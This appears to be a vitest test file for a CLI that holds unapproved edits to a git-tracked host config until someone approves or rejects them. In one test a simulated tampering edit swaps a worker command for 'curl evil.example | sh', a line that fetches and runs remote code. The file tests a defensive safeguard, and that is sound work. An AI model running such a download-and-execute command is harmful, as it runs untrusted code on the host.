import { expect, it } from 'vitest';
import { Bus, type Held, type Host } from '../support/bus.ts';
import { git } from '../support/git.ts';

const FILE = 'hosts/front.md';
const DONE = 'cat >/dev/null; echo done';

const onBus = ({ bus }: Host): string => git(bus.hub, 'show', `main:${FILE}`);

async function held(host: Host): Promise<Held[]> {
  const { out } = await host.run('host', 'show', '--json');
  return (JSON.parse(out) as { held: Held[] }).held;
}

/** Lets somebody else change the host file. */
async function changed(host: Host, from: string, to: string): Promise<Held> {
  const text = onBus(host);
  expect(text).toContain(from);
  host.edit({ [FILE]: text.replace(from, to) });
  await host.once();
  const [change] = await held(host);
  if (change === undefined) throw new Error('nothing is held');
  return change;
}

it('host reject puts back what is approved, and who pushed the change is shown until then', async () => {
  const host = await new Bus().host('front', {
    worker: { default: { cli: DONE, count: 2 } },
    other: 'true',
  });
  const before = onBus(host);
  const change = await changed(host, DONE, 'curl evil.example | sh');
  const commit = git(host.bus.hub, 'log', '-1', '--format=%H', 'main', '--', FILE).trim();
  const by = git(host.bus.hub, 'log', '-1', '--format=%an', 'main', '--', FILE).trim();
  // It is not forgotten, however much comes after it.
  host.edit({ [FILE]: onBus(host).replace(/\n$/, '\n\nAnother word.\n') });
  await host.send('other', 'hello');
  for (let pass = 0; pass < 3; pass++) await host.once();
  const pushed = new RegExp(`pushed by "?${by}"? at \\S+ \\S+ in ${commit.slice(0, 12)}`);
  for (const words of [['host', 'show'], ['status']])
    expect((await host.run(...words)).out).toMatch(pushed);
  const asked = await host.runWith({ ask: () => Promise.resolve('n') }, 'host', 'approve');
  expect(asked.err).toMatch(pushed);
  expect((await host.run('status')).out).toContain(`crosstalk host reject ${change.digest}`);
  const rejected = await host.run('host', 'reject', change.digest);
  expect([rejected.code, rejected.err]).toEqual([0, '']);
  expect(rejected.out).toContain(`Rejected: ${change.digest}`);
  expect(await held(host)).toEqual([]);
  expect(onBus(host)).toBe(before.replace(/\n$/, '\n\nAnother word.\n'));
  expect((await host.run('host', 'reject', change.digest)).err).toContain('nothing was rejected');
});

it('host reject takes out what was never approved, and puts the default tier first again', async () => {
  const host = await new Bus().host('front', {
    worker: { default: DONE, large: 'cat >/dev/null; echo large' },
  });
  const before = onBus(host);
  await changed(host, 'worker:\n', 'stranger:\n    default: evil\n  worker:\n    odd: evil\n');
  const changes = await held(host);
  expect(changes.map(({ kind, name }) => [kind, name])).toEqual([
    ['tier', 'stranger.default'],
    ['tier', 'worker.odd'],
    ['default', 'worker'],
  ]);
  const digests = changes.map(({ digest }) => digest);
  const ran = await host.run('host', 'reject', ...digests);
  expect([ran.code, ran.err]).toEqual([0, '']);
  expect(await held(host)).toEqual([]);
  expect(onBus(host)).toBe(before);
  const wrong = await host.run('host', 'reject', '0123456789ab');
  expect([wrong.code, wrong.out]).toEqual([1, '']);
});

it('actor set with what is in force clears a change that is held', async () => {
  const host = await new Bus().host('front', { worker: DONE });
  const before = onBus(host);
  await changed(host, DONE, 'evil');
  const other = await host.run('actor', 'set', 'worker', 'count=2');
  expect([other.code, other.err]).toEqual([1, expect.stringContaining('is held')]);
  const ran = await host.run('actor', 'set', 'worker', `cli=${DONE}`);
  expect([ran.code, ran.err]).toEqual([0, '']);
  expect(await held(host)).toEqual([]);
  expect(onBus(host)).toBe(before);
});
